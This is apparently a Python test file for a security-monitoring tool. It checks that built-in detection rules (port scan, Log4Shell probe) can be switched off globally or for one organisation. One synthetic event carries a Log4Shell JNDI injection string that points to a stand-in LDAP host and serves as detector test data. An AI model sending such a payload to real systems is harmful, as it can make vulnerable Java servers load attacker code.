"""The built-in checks are switched off like Sigma rules: for everyone or one organisation."""

from __future__ import annotations

from datetime import UTC, datetime

import polars as pl

from bastion.boundary.behaviour import behaviour
from bastion.core.events import ARCHIVE_SCHEMA, conform
from bastion.detect import builtin_rule_id, drop_disabled_checks


def _scans() -> pl.DataFrame:
    """Two member hosts (RAL and RJ1) each probed on 60 ports, and one Log4Shell probe."""
    rows = [
        {
            "@timestamp": datetime(2024, 3, 1, 10, 0, port % 60, tzinfo=UTC),
            "organization.id": org,
            "host.ip": host,
            "source.ip": "198.51.100.23",
            "destination.ip": host,
            "destination.port": port,
            "event.type": "denied",
            "url.full": "/?x=${jndi:ldap://e.example/a}" if port == 0 and org == "RAL" else None,
        }
        for org, host in (("RAL", "10.1.0.5"), ("RJ1", "10.2.0.5"))
        for port in range(60)
    ]
    frame = pl.DataFrame(rows)
    return conform(frame, ARCHIVE_SCHEMA)


def _checks(candidates: pl.DataFrame) -> set[tuple[str | None, str | None]]:
    return {(builtin_rule_id(k), o) for k, o in candidates.select("key", "organization.id").rows()}


def test_a_check_is_dropped_for_everyone_or_for_one_organisation() -> None:
    found = behaviour(_scans())
    everything = {
        ("builtin:port-scan", "RAL"),
        ("builtin:port-scan", "RJ1"),
        ("builtin:log4shell-probe", "RAL"),
    }
    assert _checks(found) == everything
    assert _checks(drop_disabled_checks(found, frozenset(), frozenset())) == everything
    for_ral = drop_disabled_checks(found, frozenset(), frozenset({("builtin:port-scan", "RAL")}))
    assert _checks(for_ral) == everything - {("builtin:port-scan", "RAL")}
    nowhere = drop_disabled_checks(found, frozenset({"builtin:port-scan", "sigma-x"}), frozenset())
    assert _checks(nowhere) == {("builtin:log4shell-probe", "RAL")}
    assert nowhere.columns == found.columns
